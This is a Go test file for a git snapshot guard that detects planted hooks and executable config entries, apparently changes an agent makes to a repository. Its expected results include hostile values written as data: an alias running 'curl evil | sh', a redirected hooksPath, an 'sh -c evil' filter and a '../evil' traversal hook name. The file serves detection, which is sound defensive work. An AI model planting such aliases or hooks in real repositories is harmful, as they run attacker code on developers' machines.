package git

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestExecSnapshotEncodeRoundTrips: a snapshot decoded from its encoded
// form, from another worktree of the repository, is the snapshot: no
// difference with it, the same encoded form, and the same differences
// with what an agent plants after.
func TestExecSnapshotEncodeRoundTrips(t *testing.T) {
	t.Parallel()
	g := newGuardRepo(t)
	ctx := context.Background()
	if err := os.Symlink("pre-commit", filepath.Join(g.dir, ".git/hooks/pre-push")); err != nil {
		t.Fatal(err)
	}
	writeIn(t, g.dir, ".git/hooks/commit-msg.sample", "#!/bin/sh\n")
	g.git("config", "core.fsmonitor", "true")
	g.git("config", "--add", "alias.st", "status -sb")
	// A value-less entry, which `git config` cannot write.
	f, err := os.OpenFile(filepath.Join(g.dir, ".git/config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString("[diff \"bin\"]\n\ttextconv\n"); err != nil {
		t.Fatal(err)
	}
	f.Close()
	before, err := TakeExecSnapshot(ctx, g.dir)
	if err != nil {
		t.Fatal(err)
	}
	data, err := before.Encode()
	if err != nil {
		t.Fatal(err)
	}
	decoded, err := DecodeExecSnapshot(ctx, g.wt, data)
	if err != nil {
		t.Fatal(err)
	}
	if d := before.Diff(decoded); len(d) != 0 {
		t.Errorf("the decoded snapshot differs from the one encoded: %v", described(d))
	}
	if d := decoded.Diff(before); len(d) != 0 {
		t.Errorf("the snapshot encoded differs from the decoded one: %v", described(d))
	}
	again, err := decoded.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(data), string(again)); d != "" {
		t.Errorf("encoded again (-first +again):\n%s", d)
	}
	g.plant()
	now, err := decoded.Now(ctx)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"hook post-commit added",
		`alias.x set to "!curl evil | sh"`,
		`core.hooksPath set to "/tmp/evil-hooks"`,
		`filter.evil.clean set to "sh -c evil"`,
	}
	changes := decoded.Diff(now)
	if d := cmp.Diff(want, described(changes)); d != "" {
		t.Errorf("Diff of the decoded snapshot (-want +got):\n%s", d)
	}
	if got := decoded.Where(changes[0]) + " " + decoded.Where(changes[1]); got != ".git/hooks/post-commit .git/config" {
		t.Errorf("Where = %s, want .git/hooks/post-commit .git/config", got)
	}
	if got := changes[2].KeyName(); got != "core.hooksPath" {
		t.Errorf("KeyName = %s, want core.hooksPath", got)
	}
}

// TestDecodeExecSnapshotRefuses what no snapshot encodes: another
// version, a hook outside the repository, an entry set does not watch.
func TestDecodeExecSnapshotRefuses(t *testing.T) {
	t.Parallel()
	g := newGuardRepo(t)
	for _, data := range []string{
		`{"version": 2, "hooks": {}, "config": []}`,
		`{"version": 1, "hooks": {"../evil": {"mode": 420, "data": ""}}, "config": []}`,
		`{"version": 1, "hooks": {}, "config": [{"file": "config", "key": "user.name", "values": ["x"]}]}`,
		`not json`,
	} {
		if _, err := DecodeExecSnapshot(context.Background(), g.dir, []byte(data)); err == nil {
			t.Errorf("DecodeExecSnapshot(%s) took it", data)
		}
	}
}
